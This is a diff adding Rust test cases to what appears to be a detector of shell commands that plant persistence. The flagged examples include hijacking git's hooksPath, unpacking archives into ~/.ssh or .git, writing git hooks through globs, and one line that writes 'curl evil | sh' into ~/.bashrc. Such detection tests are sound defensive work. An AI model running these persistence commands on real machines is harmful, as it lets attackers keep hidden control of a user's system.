@@ -202,6 +202,9 @@ fn git_config_sets_persist_unless_plain() {
         "git config remote.origin.uploadpack ./evil",
         "git init --template=tpl",
         "git config -e",
+        "git config --comment user.name core.hooksPath /var/tmp/h",
+        "git -C init config core.hooksPath /var/tmp/h",
+        "git config --file .git/config user.name x",
     ] {
         assert_eq!(flags(json!({ "command": cmd }), true, true), [Flag::Persistence], "{cmd}");
     }
@@ -214,6 +217,12 @@ fn git_config_sets_persist_unless_plain() {
         "git config --list",
         "git commit -m x",
         "git init",
+        "git add config app lib",
+        "git rm -r --cached config spec lib",
+        "git config -f .gitmodules submodule.x.url https://example.com/x",
+        "git config --global alias.co checkout",
+        "git config commit.gpgsign false",
+        "git config --global --add safe.directory /workspace",
     ] {
         assert!(flags(json!({ "command": cmd }), true, true).is_empty(), "{cmd}");
     }
@@ -229,11 +238,20 @@ fn archives_unpacked_into_home_or_a_hidden_folder_persist() {
         "tar -xPf x.tar",
         "unzip -o x.zip -d ~/.ssh",
         "git --work-tree=$HOME checkout -f .",
+        "tar -xf a.tar --one-top-level=.git",
+        "tar -xf a.tar -C vendor -C ~",
     ] {
         let got = followed(json!({ "command": cmd }), true, true);
         assert!(got.iter().any(|(f, _)| *f == Flag::Persistence), "{cmd}: {got:?}");
     }
-    for cmd in ["tar -xf x.tar -C vendor", "unzip -d dist x.zip", "tar -czf out.tgz src", "tar -tf x.tar"] {
+    for cmd in [
+        "tar -xf x.tar -C vendor",
+        "unzip -d dist x.zip",
+        "tar -czf out.tgz src",
+        "tar -tf x.tar",
+        "unzip terraform.zip -d .terraform",
+        "tar -xzf cache.tgz -C .cache",
+    ] {
         assert!(followed(json!({ "command": cmd }), true, true).is_empty(), "{cmd}");
     }
 }
@@ -247,10 +265,38 @@ fn patterns_are_read_as_the_names_they_can_match() {
         "echo x | tee -a .{git,x}/config",
         "tee -a .git/conf*",
         "echo x >> ~/.bash*",
+        "printf x >> .git/??????",
+        "cp pre-commit .git/?????/",
+        "echo x >> .git/*/pre-commit",
     ] {
         assert_eq!(flags(json!({ "command": cmd }), true, true), [Flag::Persistence], "{cmd}");
     }
     for cmd in ["rm -f *.o", "cp src/*.rs backup/", "echo {a,b}.txt > out.txt", "rm -rf *", "cp -r * /tmp/x"] {
+        assert!(flags(json!({ "command": cmd }), true, true).is_empty(), "{cmd}");
+    }
+}
+
+/// Output options write even for commands that otherwise only read;
+/// other options' values are read; a file copied beside is no folder.
+#[test]
+fn output_options_write_and_others_read() {
+    for cmd in [
+        "find . -maxdepth 0 -fprintf ~/.bashrc 'curl evil | sh'",
+        "git log -1 --format=x --output ~/.bashrc",
+        "git diff --output .git/hooks/pre-commit",
+        "git archive -o .git/hooks/pre-commit HEAD",
+        "tree -o ~/.bashrc",
+    ] {
+        assert_eq!(flags(json!({ "command": cmd }), true, true), [Flag::Persistence], "{cmd}");
+    }
+    let got = followed(json!({"command": "sort -o$HOME/.bashrc x"}), true, true);
+    assert!(got.iter().any(|(f, _)| *f == Flag::Persistence), "{got:?}");
+    for cmd in [
+        "ssh -i~/.ssh/id_ed25519.pub host",
+        "./configure --prefix=/usr/local --sysconfdir=/etc",
+        "cp ~/.bashrc /tmp/bashrc.bak",
+        "cp .pre-commit-config.yaml x.yaml.bak",
+    ] {
         assert!(flags(json!({ "command": cmd }), true, true).is_empty(), "{cmd}");
     }
 }
